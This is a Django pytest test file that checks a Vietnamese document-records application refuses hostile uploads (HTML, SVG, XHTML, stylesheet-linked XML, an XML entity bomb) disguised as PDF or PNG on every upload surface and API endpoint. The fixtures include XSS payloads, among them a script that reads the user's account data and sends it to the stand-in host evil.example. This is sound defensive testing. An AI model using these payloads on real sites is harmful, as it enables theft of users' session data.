"""Hostile files on every surface that stores an uploaded file: an HTML page or an SVG image with
a script, renamed `.pdf` or `.png`, XHTML, an XML with a stylesheet, an XML that is not an edXML
package. Each is refused by its content, whatever its name, with a Vietnamese message, and
nothing is stored: no record, no file in the media folder. Only an edXML package (root element in
the namespace of QCVN 102:2016) is accepted as XML.

Surfaces: registering an incoming document, issuing an outgoing one, sending an internal one,
attaching to an existing document, uploading a file into a dossier (each through its page), and
the JSON API's one upload (an edXML package: hostile files as the package and inside it); every API
operation taking a file is found from the schema, so a new one cannot appear without its test."""

import datetime
import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from documents.attachments import EDXML_NAMESPACE, XML, detect_type, sniffs_as_html
from documents.choices import Form, Kind
from documents.models import Attachment, Document
from dossiers.models import DossierItem
from recordsportal.models import Agency
from recordsportal.services import DomainError

pytestmark = pytest.mark.django_db

SCRIPT = b"<script>fetch('/api/v1/me/').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script>"

HOSTILE = {
    "html renamed pdf": ("cong-van.pdf", b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"),
    "html in capitals after a BOM and blank lines": ("scan.png", b"\xef\xbb\xbf\r\n\n  <HTML><BODY>" + SCRIPT),
    "bare script tag": ("to-trinh.pdf", SCRIPT),
    "html comment then script": ("to-trinh.pdf", b"<!-- bao cao -->" + SCRIPT),
    "html fragment without html tag": ("bao-cao.pdf", b"<div><img src=x onerror=alert(1)></div>"),
    "svg renamed png": ("anh.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'),
    "svg without namespace": ("anh.png", b"<svg onload=alert(1)><circle r='5'/></svg>"),
    "svg with prolog and doctype": ("anh.png", b'<?xml version="1.0" standalone="no"?>\n'
                                    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                                    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
                                    b'<svg version="1.1" xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"),
    "svg with a namespace prefix": ("anh.png", b'<?xml version="1.0"?><s:svg xmlns:s="http://www.w3.org/2000/svg">'
                                    b"<s:script>alert(1)</s:script></s:svg>"),
    "xhtml renamed pdf": ("cong-van.pdf", b'<?xml version="1.0" encoding="utf-8"?>\n'
                          b'<html xmlns="http://www.w3.org/1999/xhtml"><body>' + SCRIPT + b"</body></html>"),
    "xhtml under another prefix": ("cong-van.pdf", b'<?xml version="1.0"?><h:html xmlns:h="http://www.w3.org/1999/xhtml">'
                                   b"<h:script>alert(1)</h:script></h:html>"),
    "xml with a stylesheet that makes html": ("goi-tin.xml", b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" '
                                              b'href="data:text/xsl,evil"?>\n<note><to>A</to></note>'),
    "xml that is not edxml": ("goi-tin.xml", '<?xml version="1.0" encoding="utf-8"?><note><to>Phòng A</to></note>'.encode()),
    "edxml root without its namespace": ("goi-tin.edxml", '<?xml version="1.0" encoding="utf-8"?><edXML><Header>Văn bản'
                                         "</Header></edXML>".encode()),
    "edxml carrying an svg element": ("goi-tin.edxml", f'<?xml version="1.0"?><edXML xmlns="{EDXML_NAMESPACE}"><Body>'
                                      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/></Body></edXML>'.encode()),
    "edxml with an entity bomb": ("goi-tin.edxml", f'<?xml version="1.0"?><!DOCTYPE edXML [<!ENTITY a "aaaa">'
                                  f'<!ENTITY b "&a;&a;&a;&a;">]><edXML xmlns="{EDXML_NAMESPACE}">&b;</edXML>'.encode()),
    "plain text": ("ghi-chu.pdf", "Nội dung văn bản".encode()),
}

EDXML = (f'<?xml version="1.0" encoding="utf-8"?>\n<edXML xmlns="{EDXML_NAMESPACE}">'
         f'<edXML:edXMLEnvelope xmlns:edXML="{EDXML_NAMESPACE}"><edXML:edXMLHeader><edXML:MessageHeader>'
         "<edXML:Subject>V/v triển khai Chỉ thị</edXML:Subject></edXML:MessageHeader></edXML:edXMLHeader>"
         "</edXML:edXMLEnvelope></edXML>").encode()
PDF_BYTES = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def upload(name, content):
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def stored_files(media: Path) -> list[str]:
    return sorted(str(p.relative_to(media)) for p in media.rglob("*") if p.is_file())


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.MEDIA_ROOT.mkdir()
    return settings.MEDIA_ROOT


# --- the rule itself -----------------------------------------------------------------------------


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_it_refuses_html_svg_and_xml_other_than_edxml_whatever_the_name(case):
    name, content = HOSTILE[case]
    with pytest.raises(DomainError) as refused:
        detect_type(upload(name, content))
    assert name in refused.value.message and refused.value.field == "file"


def test_it_names_html_and_svg_for_what_they_are():
    _name, content = HOSTILE["svg renamed png"]
    with pytest.raises(DomainError) as refused:
        detect_type(upload("anh.png", content))
    assert "HTML hoặc ảnh SVG" in refused.value.message
    with pytest.raises(DomainError) as refused:
        detect_type(upload("goi-tin.xml", HOSTILE["xml that is not edxml"][1]))
    assert "không phải gói văn bản điện tử edXML" in refused.value.message


@pytest.mark.parametrize("content", [
    EDXML,
    # A root with a prefix, no prolog, a BOM: still the edXML namespace.
    b"\xef\xbb\xbf" + f'<e:edXML xmlns:e="{EDXML_NAMESPACE}"><e:edXMLEnvelope/></e:edXML>'.encode(),
])
def test_it_accepts_an_edxml_package_by_its_root_namespace(content):
    assert detect_type(upload("goi-tin.edxml", content)) == XML


@pytest.mark.parametrize(("head", "html"), [
    (b"<html>", True), (b" \t\r\n<HtMl lang='vi'>", True), (b"<p>", True), (b"<b>x", True), (b"<!--x-->", True),
    (b"<a href=x>", True), (b"<table>", True), (b"<svg>", False), (b"<bx>", False), (b'<?xml version="1.0"?>', False),
    (b"<edXML>", False), (b"%PDF-1.4", False),
])
def test_it_sniffs_html_as_browsers_do(head, html):
    assert sniffs_as_html(head) is html


# --- every surface, through its page -------------------------------------------------------------


def incoming_post(**overrides):
    return {
        "arrival_date": "03/03/2026", "number_symbol": "125/UBND-KT", "document_date": "02/03/2026",
        "issuer": "Ủy ban nhân dân tỉnh", "kind": Kind.OFFICIAL_LETTER, "summary": "V/v triển khai Chỉ thị",
        "recipients": "", "received_medium": Form.ELECTRONIC, "form": Form.ELECTRONIC, "urgency": "normal",
        "confidentiality": "normal", "notes": "", **overrides,
    }


HOSTILE_ON_PAGES = ["html renamed pdf", "svg renamed png", "xhtml renamed pdf", "xml that is not edxml"]


@pytest.mark.parametrize("case", HOSTILE_ON_PAGES)
def test_incoming_registration_refuses_a_hostile_file_and_stores_nothing(agency, login, media, case):
    name, content = HOSTILE[case]
    response = login(agency.clerk).post(reverse("documents:incoming_create"),
                                        incoming_post(attachments=upload(name, content)))
    assert response.status_code == 200 and name in response.content.decode()
    assert not Document.objects.exists() and not Attachment.objects.exists()
    assert stored_files(media) == []


@pytest.mark.parametrize("case", HOSTILE_ON_PAGES)
def test_outgoing_issue_refuses_a_hostile_file_and_stores_nothing(agency, login, media, case):
    name, content = HOSTILE[case]
    response = login(agency.clerk).post(reverse("documents:outgoing_create"), {
        "issue_date": datetime.date.today().strftime("%d/%m/%Y"), "kind": Kind.OFFICIAL_LETTER,
        "department": agency.dept_a.pk, "summary": "V/v báo cáo", "signer": "Trần Lãnh Đạo", "form": Form.ELECTRONIC,
        "urgency": "normal", "confidentiality": "normal", "attachments": upload(name, content)})
    assert response.status_code == 200 and name in response.content.decode()
    assert not Document.objects.exists() and stored_files(media) == []


@pytest.mark.parametrize("case", HOSTILE_ON_PAGES)
def test_internal_document_refuses_a_hostile_file_and_stores_nothing(agency, login, media, case):
    name, content = HOSTILE[case]
    response = login(agency.officer_a).post(reverse("documents:internal_create"), {
        "kind": Kind.OFFICIAL_LETTER, "summary": "V/v họp giao ban", "recipient_departments": [agency.dept_b.pk],
        "attachments": upload(name, content)})
    assert response.status_code == 200 and name in response.content.decode()
    assert not Document.objects.exists() and stored_files(media) == []


@pytest.mark.parametrize("case", HOSTILE_ON_PAGES)
def test_attaching_to_a_document_refuses_a_hostile_file_and_stores_nothing(agency, login, media, incoming, case):
    document = incoming(form=Form.PAPER)  # no file yet: a paper document (issue 14)
    name, content = HOSTILE[case]
    client = login(agency.clerk)
    response = client.post(reverse("documents:attach", args=[document.pk]),
                           {"attachments": [upload("hop-le.pdf", PDF_BYTES), upload(name, content)]}, follow=True)
    assert name in response.content.decode()
    # All or nothing: the valid PDF sent with it is not kept either.
    assert not document.attachments.exists() and stored_files(media) == []


@pytest.mark.parametrize("case", HOSTILE_ON_PAGES)
def test_dossier_file_upload_refuses_a_hostile_file_and_stores_nothing(agency, login, media, case):
    from dossiers import services as dossier_services

    row = Agency.load()
    row.identifier_code, row.abbreviation = "000.00.31.H09", "BQL"
    row.save()
    dossier = dossier_services.dossier_open(acting_user=agency.officer_a, title="Hồ sơ thẩm định", retention_years=10,
                                            opened_on=datetime.date(2026, 3, 3))
    name, content = HOSTILE[case]
    response = login(agency.officer_a).post(reverse("dossiers:add_file", args=[dossier.pk]),
                                            {"file": upload(name, content), "title": "Bản đồ"}, follow=True)
    assert name in response.content.decode()
    assert not DossierItem.objects.filter(dossier=dossier).exists() and stored_files(media) == []


def test_an_edxml_package_is_still_attached(agency, login, media, incoming):
    document = incoming(form=Form.PAPER)  # no file yet: a paper document (issue 14)
    login(agency.clerk).post(reverse("documents:attach", args=[document.pk]),
                             {"attachments": [upload("goi-tin.edxml", EDXML)]})
    attachment = document.attachments.get()
    assert attachment.extension == "xml" and attachment.content_type == "application/xml"
    assert len(stored_files(media)) == 1


def test_the_register_and_plan_imports_refuse_html_renamed_xlsx(agency, login, media):
    """The Excel uploads read the file as a workbook: an HTML page named .xlsx is no workbook."""
    from dossiers import services as dossier_services

    name, content = "so-den.xlsx", HOSTILE["html renamed pdf"][1]
    page = login(agency.clerk).post(reverse("documents:import_upload"), {
        "direction": "incoming", "file": upload(name, content)}).content.decode()
    assert "không phải là bảng tính Excel" in page
    row = Agency.load()
    row.identifier_code, row.abbreviation = "000.00.31.H09", "BQL"
    row.save()
    plan = dossier_services.file_plan_create(acting_user=agency.head_a, department=agency.dept_a, year=2026)
    page = login(agency.head_a).post(reverse("dossiers:plan_import", args=[plan.pk]),
                                     {"file": upload("danh-muc.xlsx", content)}, follow=True).content.decode()
    assert "không phải là bảng tính Excel" in page
    assert stored_files(media) == []


# The API operations that take a file, each with its hostile-file test below.
API_UPLOADS = {"POST /api/v1/exchange/packages/"}


def api_upload_operations() -> set[str]:
    """Every API operation whose request body carries a file (`format: binary` once request and
    response components are split; otherwise drf-spectacular shows a file field as a `uri`)."""
    from drf_spectacular.generators import SchemaGenerator
    from drf_spectacular.settings import patched_settings

    with patched_settings({"COMPONENT_SPLIT_REQUEST": True}):
        schema = SchemaGenerator().get_schema(request=None, public=True)
    components = schema["components"]["schemas"]

    def carries_file(node) -> bool:
        if isinstance(node, dict):
            if node.get("format") == "binary":
                return True
            if "$ref" in node:
                return carries_file(components[node["$ref"].rsplit("/", 1)[1]])
            return any(carries_file(value) for value in node.values())
        return isinstance(node, list) and any(carries_file(value) for value in node)

    return {f"{method.upper()} {path}" for path, operations in schema["paths"].items()
            for method, operation in operations.items() if carries_file(operation.get("requestBody", {}))}


def test_every_api_upload_has_its_hostile_file_test():
    """A new API operation taking a file fails here until it is added to API_UPLOADS with a test
    (and checks its files through documents.attachments.detect_type)."""
    assert api_upload_operations() == API_UPLOADS


@pytest.fixture
def exchange_agency(agency, media, settings):
    from exchange.models import Organisation

    from ..exchange.conftest import AGENCY_CODE, SENDER_CODE

    settings.EDXML_OUTBOX_DIR = str(media.parent / "exchange-outbox")
    settings.EDXML_INBOX_DIR = str(media.parent / "exchange-inbox")
    row = Agency.load()
    row.identifier_code, row.abbreviation, row.name = AGENCY_CODE, "BQL", "Ban Quản lý Khu kinh tế tỉnh Hà Tĩnh"
    row.save()
    Organisation.objects.create(code=SENDER_CODE, name="Ủy ban nhân dân tỉnh Hà Tĩnh")
    return agency


@pytest.mark.parametrize("case", ["html renamed pdf", "svg renamed png", "xhtml renamed pdf", "xml that is not edxml",
                                  "svg attached inside a package", "html attached inside a package"])
def test_the_api_package_upload_refuses_hostile_files_and_stores_nothing(exchange_agency, login, media, case):
    from exchange.models import InboundPackage

    from ..exchange.conftest import package_bytes

    if case.endswith("inside a package"):
        hostile = HOSTILE["svg renamed png" if case.startswith("svg") else "html renamed pdf"]
        content_type = "image/png" if case.startswith("svg") else "application/pdf"
        name, content = "goi-tin.edxml", package_bytes(files=[(hostile[0], content_type, hostile[1])])
    else:
        name, content = HOSTILE[case]
        name = name.rsplit(".", 1)[0] + ".edxml"
    response = login(exchange_agency.clerk).post("/api/v1/exchange/packages/", {"file": upload(name, content)})
    assert response.status_code == 400, response.content[:300]
    assert not InboundPackage.objects.exists() and stored_files(media) == []


@pytest.mark.parametrize("case", ["html renamed pdf", "svg renamed png", "svg attached inside a package"])
def test_the_exchange_inbox_page_refuses_hostile_files(exchange_agency, login, media, case):
    """The Office's inbox page takes packages too (read by a task, eager here): a hostile file is
    refused by its content and registers nothing."""
    from exchange.models import InboundPackage, ReceiveBatchItem

    from ..exchange.conftest import package_bytes

    if case.endswith("inside a package"):
        name, content = "goi-tin.edxml", package_bytes(files=[("anh.png", "image/png", HOSTILE["svg renamed png"][1])])
    else:
        name, content = HOSTILE[case]
        name = name.rsplit(".", 1)[0] + ".edxml"
    login(exchange_agency.clerk).post(reverse("exchange:inbox"), {"files": [upload(name, content)]})
    item = ReceiveBatchItem.objects.get()
    assert item.state == ReceiveBatchItem.State.REFUSED and item.message
    assert not InboundPackage.objects.exists() and not Attachment.objects.exists()


def test_docx_is_not_mistaken_for_markup():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document><html/></w:document>")
    assert detect_type(upload("du-thao.docx", buffer.getvalue())).extension == "docx"
